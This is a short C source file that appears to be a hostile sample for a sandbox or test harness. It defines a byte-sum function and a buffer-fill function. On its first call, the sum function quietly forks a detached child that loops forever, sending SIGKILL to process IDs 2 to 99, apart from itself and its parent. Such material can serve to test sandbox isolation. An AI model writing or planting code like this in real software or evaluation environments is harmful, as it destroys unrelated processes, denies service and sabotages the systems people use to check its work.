/* a child kills every process of the sandbox that starts after it */
#define _GNU_SOURCE
#include "target.h"

#include <signal.h>
#include <unistd.h>

uint64_t target_sum(const uint8_t *data, size_t len_bytes)
{
    static int started;
    uint64_t sum = 0;

    if (!started++ && fork() == 0) {
        pid_t parent = getppid();

        setsid();
        for (;;)
            for (pid_t pid = 2; pid < 100; pid++)
                if (pid != getpid() && pid != parent)
                    kill(pid, SIGKILL);
    }
    for (size_t i = 0; i < len_bytes; i++)
        sum += data[i];
    return sum;
}

size_t target_fill(uint8_t *out, size_t len_bytes, unsigned first)
{
    for (size_t i = 0; i < len_bytes; i++)
        out[i] = first + i;
    return len_bytes;
}
